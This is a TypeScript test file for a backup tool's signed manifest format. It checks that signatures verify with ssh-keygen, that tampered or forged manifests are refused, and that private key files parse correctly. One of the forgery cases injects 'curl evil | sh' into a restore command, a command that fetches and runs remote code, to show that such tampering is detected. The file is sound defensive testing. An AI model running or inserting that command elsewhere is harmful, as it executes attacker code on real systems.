/** Signed roots, also by what ssh-keygen makes and says of them. */
import { describe, expect, test } from "bun:test";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { withFooter } from "../../../../core/format/lines/envelope.ts";
import { decodeManifest, encodeManifest } from "../../../../core/format/manifest/manifest.ts";
import { rootNamespace } from "../../../../core/format/manifest/root-signature.ts";
import { decodeKeyFile, encodeKeyFile, fingerprintOf, isLocked } from "../../../../core/format/ssh/ssh-key.ts";
import { once } from "../../../../core/stored/bytes.ts";
import { attack } from "../../../support/attack.ts";
import { refusalOf, unnoticed } from "../mutation.ts";
import { sampleManifest } from "../sample-backup.ts";

const hasKeygen = Bun.which("ssh-keygen") !== null;
const seedOf = (byte: number) => new Uint8Array(32).fill(byte);
const keyOf = (byte: number) => decodeKeyFile(encodeKeyFile(seedOf(byte), new Uint8Array(4), "a comment"));
const [ours, theirs] = [keyOf(1), keyOf(2)];
const decode = (text: string | Uint8Array) => decodeManifest(once(Buffer.from(text)));
const signed = encodeManifest(sampleManifest, ours);
const linesOf = (text: string) => text.split("\n").slice(0, -2);
const rewritten = (lines: readonly string[]) => [...withFooter(lines.map((line) => `${line}\n`))].join("");
const signedBy = async (text: string) => (await decode(text)).proof?.signedBy;

async function inFolder<T>(use: (at: (name: string) => string) => Promise<T>): Promise<T> {
  const folder = await mkdtemp(join(tmpdir(), "signed-"));
  try {
    return await use((name) => join(folder, name));
  } finally {
    await rm(folder, { recursive: true });
  }
}

function keygen(args: readonly string[], stdin = "") {
  const { exitCode, stdout, stderr } = Bun.spawnSync(["ssh-keygen", ...args], { stdin: Buffer.from(stdin) });
  return { exit: exitCode, said: stdout.toString() + stderr.toString(), stdout: stdout.toString() };
}

describe("a signed root", () => {
  test("a signed root is read as it was written, and says who signed it", async () => {
    const { proof, ...manifest } = await decode(signed);
    const { proof: _, ...sample } = sampleManifest;
    expect(manifest).toEqual(sample);
    expect(proof?.signedBy).toBe(ours.publicKey);
    expect(proof?.digest).toBe(/"digest":"([0-9a-f]{64})"\}\}\n$/.exec(signed)?.[1] ?? "none");
  });

  test("a root without a signature says that nobody signed it", async () => {
    expect(await signedBy(encodeManifest(sampleManifest))).toBeUndefined();
  });

  test("a signed root is refused with any one bit changed, and cut anywhere", async () => {
    expect(await unnoticed(Buffer.from(signed), decode)).toEqual([]);
  });

  test("a signed root has its signature as the line before the footer, in a notice that readers without signatures take", () => {
    const line: unknown = JSON.parse(linesOf(signed).at(-1) ?? "");
    const at = sampleManifest.totals.finished;
    const message = `signed by ${fingerprintOf(ours.publicKey)}`;
    expect(line).toMatchObject({ notice: { level: "info", code: "signed", message, at } });
    expect(signed.split("\n").slice(0, -3)).toEqual(encodeManifest(sampleManifest).split("\n").slice(0, -2));
  });

  attack(
    {
      by: "W",
      what: "a signed root without its signature",
      before: "nothing was signed",
      now: "it counts as one that nobody signed",
    },
    async () => {
      expect(await signedBy(rewritten(linesOf(signed).slice(0, -1)))).toBeUndefined();
      const asNotice = linesOf(signed).map((line) => line.replace(/,"signature":"[^"]*"\}$/, "}"));
      expect(await signedBy(rewritten(asNotice))).toBeUndefined();
      expect(await signedBy(rewritten(linesOf(signed)))).toBe(ours.publicKey);
    },
  );

  const forgeries: Record<string, (lines: string[]) => string[]> = {
    "another restore command": (lines) =>
      lines.map((line) => line.replace("sqlite3 /var", "curl evil | sh; sqlite3 /var")),
    "another name": (lines) => lines.map((line) => line.replace('"name":"web-1"', '"name":"web-2"')),
    "a snapshot below the signature": (lines) => [...lines, lines.find((line) => line.startsWith('{"snapshot"')) ?? ""],
    "a second signature below the first": (lines) => [...lines, lines.at(-1) ?? ""],
    "the signature of another root": (lines) => {
      const other = { ...sampleManifest, header: { ...sampleManifest.header, run: "00000001" } };
      return [...lines.slice(0, -1), linesOf(encodeManifest(other, ours)).at(-1) ?? ""];
    },
    "a signature that is no such thing": (lines) => [
      ...lines.slice(0, -1),
      (lines.at(-1) ?? "").replace(/BEGIN SSH/, "BEGIN SSL"),
    ],
  };
  for (const [variant, forge] of Object.entries(forgeries)) {
    attack(
      {
        by: "W",
        what: "a signed root, changed, with the signature that it had or that of another",
        before: "nothing was signed",
        now: "refused as altered",
      },
      async () => {
        const lines = forge(linesOf(signed));
        expect(lines).not.toEqual(linesOf(signed));
        expect((await refusalOf(decode(rewritten(lines))))?.kind).toBe("altered");
      },
      { variant },
    );
  }

  test.skipIf(!hasKeygen)(
    "ssh-keygen finds the signature of a root good for its name and purpose, and for no other",
    async () => {
      await inFolder(async (at) => {
        const line = linesOf(signed).at(-1) ?? "";
        const { signature }: { signature: string } = JSON.parse(line);
        await writeFile(at("signature"), signature);
        await writeFile(at("trusted"), `web-1 ${ours.publicKey}\n`);
        const text = signed.split("\n").slice(0, -3).join("\n");
        const check = (name: string, purpose: string, what: string) =>
          keygen(["-Y", "verify", "-f", at("trusted"), "-I", name, "-n", purpose, "-s", at("signature")], what);
        expect(check("web-1", rootNamespace, `${text}\n`)).toMatchObject({
          exit: 0,
          said: expect.stringContaining("Good"),
        });
        expect(check("web-2", rootNamespace, `${text}\n`).exit).not.toBe(0);
        expect(check("web-1", "file", `${text}\n`).exit).not.toBe(0);
        expect(check("web-1", rootNamespace, `${text} \n`).exit).not.toBe(0);
        const novalidate = ["-Y", "check-novalidate", "-n", rootNamespace, "-s", at("signature")];
        expect(keygen(novalidate, `${text}\n`).exit).toBe(0);
      });
    },
  );

  test.skipIf(!hasKeygen)(
    "a root is signed with a key that ssh-keygen made, and accepted with a signature that it made",
    async () => {
      await inFolder(async (at) => {
        expect(keygen(["-q", "-t", "ed25519", "-N", "", "-C", "", "-f", at("key")]).exit).toBe(0);
        const key = decodeKeyFile(await Bun.file(at("key")).text());
        expect(key.publicKey).toBe((await Bun.file(at("key.pub")).text()).trim());
        expect(await signedBy(encodeManifest(sampleManifest, key))).toBe(key.publicKey);
        const text = encodeManifest(sampleManifest).split("\n").slice(0, -2);
        const made = keygen(
          ["-Y", "sign", "-f", at("key"), "-O", "hashalg=sha256", "-n", rootNamespace],
          `${text.join("\n")}\n`,
        );
        const notice = { level: "info", code: "signed", message: "by hand", at: sampleManifest.totals.finished };
        expect(await signedBy(rewritten([...text, JSON.stringify({ notice, signature: made.stdout })]))).toBe(
          key.publicKey,
        );
      });
    },
  );

  test.skipIf(!hasKeygen)(
    "a root with a signature of a kind that is not checked counts as one that nobody signed",
    async () => {
      await inFolder(async (at) => {
        const text = encodeManifest(sampleManifest).split("\n").slice(0, -2);
        const notice = { level: "info", code: "signed", message: "by hand", at: sampleManifest.totals.finished };
        for (const [kind, ...options] of [["rsa"], ["ecdsa"], ["ed25519", "-O", "hashalg=sha512"]]) {
          keygen(["-q", "-t", kind ?? "", "-N", "", "-f", at(kind ?? "")]);
          const made = keygen(
            ["-Y", "sign", "-f", at(kind ?? ""), ...options, "-n", rootNamespace],
            `${text.join("\n")}\n`,
          );
          expect(made.stdout).toContain("BEGIN SSH SIGNATURE");
          const root = rewritten([...text, JSON.stringify({ notice, signature: made.stdout })]);
          expect({ kind, by: await signedBy(root) }).toEqual({ kind, by: undefined });
        }
      });
    },
  );
});

describe("a private key file", () => {
  test.skipIf(!hasKeygen)("ssh-keygen reads the key files that are made here", async () => {
    await inFolder(async (at) => {
      for (const byte of [1, 2, 200]) {
        const comment = "a".repeat(byte % 9);
        await writeFile(at("key"), encodeKeyFile(seedOf(byte), new Uint8Array(4), comment), { mode: 0o600 });
        expect(keygen(["-y", "-f", at("key")]).stdout.trim()).toBe(`${keyOf(byte).publicKey} ${comment}`.trim());
        expect(keygen(["-l", "-f", at("key")]).stdout).toContain(fingerprintOf(keyOf(byte).publicKey));
      }
    });
  });

  test.skipIf(!hasKeygen)(
    "a private key under a passphrase, or of another kind, is refused with what is wrong",
    async () => {
      await inFolder(async (at) => {
        const made = async (...args: string[]) => {
          const path = at(crypto.randomUUID());
          keygen(["-q", "-f", path, ...args]);
          return Bun.file(path).text();
        };
        const locked = await made("-t", "ed25519", "-N", "a passphrase");
        expect(isLocked(locked)).toBe(true);
        expect(() => decodeKeyFile(locked)).toThrow("a passphrase protects it");
        const other = await made("-t", "ecdsa", "-N", "");
        expect(isLocked(other)).toBe(false);
        expect(() => decodeKeyFile(other)).toThrow("it is of another kind than ssh-ed25519");
      });
    },
  );

  test("a private key file that is cut or changed is refused, or is no other key", () => {
    const text = encodeKeyFile(seedOf(1), new Uint8Array(4), "a comment");
    const [, ...lines] = text.split("\n");
    const bytes = Buffer.from(lines.slice(0, -2).join(""), "base64");
    const readAs = (changed: Uint8Array) => {
      const base64 = Buffer.from(changed).toString("base64");
      try {
        return decodeKeyFile(`-----BEGIN OPENSSH PRIVATE KEY-----\n${base64}\n-----END OPENSSH PRIVATE KEY-----\n`)
          .publicKey;
      } catch {
        return "refused";
      }
    };
    expect(readAs(bytes)).toBe(ours.publicKey);
    const seen = new Set<string>();
    for (let at = 0; at < bytes.length; at += 1) {
      const changed = Buffer.from(bytes);
      changed[at] = (changed[at] ?? 0) ^ 1;
      seen.add(readAs(changed));
      if (at < bytes.length - 20) expect(readAs(bytes.subarray(0, at))).toBe("refused");
    }
    expect([...seen].toSorted()).toEqual(["refused", ours.publicKey].toSorted());
    expect(theirs.publicKey).not.toBe(ours.publicKey);
  });
});
